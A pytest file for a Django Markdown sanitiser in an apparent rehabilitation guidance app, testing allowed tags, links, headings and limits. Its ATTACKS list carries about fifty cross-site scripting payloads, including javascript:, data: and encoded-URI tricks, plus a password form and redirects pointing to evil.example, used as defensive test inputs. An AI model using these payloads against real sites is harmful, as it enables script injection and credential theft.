"""What an admin writes never becomes more than a few harmless tags."""

import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from django.utils.safestring import SafeString

from rehab.guidance.prose import ATTRIBUTES, LIMIT, TAGS, prose

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<p onclick=alert(1)>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\u2028:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://example.org/<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- [x](javascript:alert(1))\n  1. <svg onload=alert(1)>",
    "## <img src=x onerror=alert(1)>",
    "**<b onmouseover=alert(1)>x**",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](guide:javascript:alert(1))",
    "[x](guide:../../admin)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='https://example.org' target=_blank style='position:fixed'>x</a>",
]


class Reader(HTMLParser):
    """Every tag with its attributes, as a browser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, Any]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_is_left(attack: str) -> None:
    html = prose(f"Before\n\n{attack}\n\nAfter", topics={"outdoors"})
    assert "Before" in html
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        assert re.match(r"(https?|mailto|tel):|/(?!/)|#", attributes.get("href", "#"))


def test_it_is_ready_for_a_template() -> None:
    assert isinstance(prose("Hello"), SafeString)


def test_common_markdown_is_rendered() -> None:
    html = prose("One **two**\n\n- a\n- b\n\n1. c")
    assert html == "<p>One <strong>two</strong></p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol>\n<li>c</li>\n</ol>\n"


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("## A\n\n### B", ["h2", "h3"]),
        ("# A\n\n## B", ["h2", "h3"]),
        ("#### A", ["h2"]),
        ("# A\n\n###### B", ["h2", "h6"]),
    ],
)
def test_headings_begin_below_the_title(written: str, read: list[str]) -> None:
    assert [tag for tag, _ in Reader(prose(written)).tags] == read


def test_headings_begin_lower_in_a_preview() -> None:
    assert "<h4>A</h4>" in prose("# A", top=4)


def test_a_link_to_a_topic_leads_there() -> None:
    html = prose("[Outdoors](guide:outdoors)", topics={"outdoors"})
    assert html == '<p><a href="/guide/topics/outdoors/">Outdoors</a></p>\n'


def test_a_link_to_an_unknown_topic_is_plain_text() -> None:
    assert prose("[Indoors](guide:indoors) and [on](guide:outdoors)", topics={"outdoors"}) == (
        '<p>Indoors and <a href="/guide/topics/outdoors/">on</a></p>\n'
    )


@pytest.mark.parametrize("href", ["https://example.org/", "HTTP://example.org/", "mailto:a@example.org", "tel:112"])
def test_links_that_leave_give_nothing_away(href: str) -> None:
    links = [attributes for tag, attributes in Reader(prose(f"[x]({href})")).tags if tag == "a"]
    assert [attributes["rel"] for attributes in links] == ["noopener noreferrer"]


@pytest.mark.parametrize("href", ["//example.org/", "page", "ftp://example.org/", "guide:", ""])
def test_a_link_to_nowhere_known_is_plain_text(href: str) -> None:
    assert prose(f"[x]({href})", topics={"outdoors"}) == "<p>x</p>\n"


def test_a_name_is_shown_and_not_read_as_markdown() -> None:
    html = prose("Ask {therapist}.", values={"therapist": "[T](https://evil.example) **<b>**"})
    assert html == "<p>Ask [T](https://evil.example) **&lt;b&gt;**.</p>\n"


def test_an_unknown_placeholder_stays_as_it_is_written() -> None:
    assert prose("Ask {nobody}.") == "<p>Ask {nobody}.</p>\n"


def test_no_more_than_the_limit_is_read() -> None:
    assert prose("a" * (LIMIT + 5)) == f"<p>{'a' * LIMIT}</p>\n"


@pytest.mark.parametrize("letter", ["[", "*", "_", "> ", "`", "![", "(", "- ", "a\n", "&", "\\", "<"])
def test_no_text_keeps_a_reader_waiting(letter: str) -> None:
    begun = time.perf_counter()
    prose((letter * LIMIT)[:LIMIT])
    assert time.perf_counter() - begun < 5
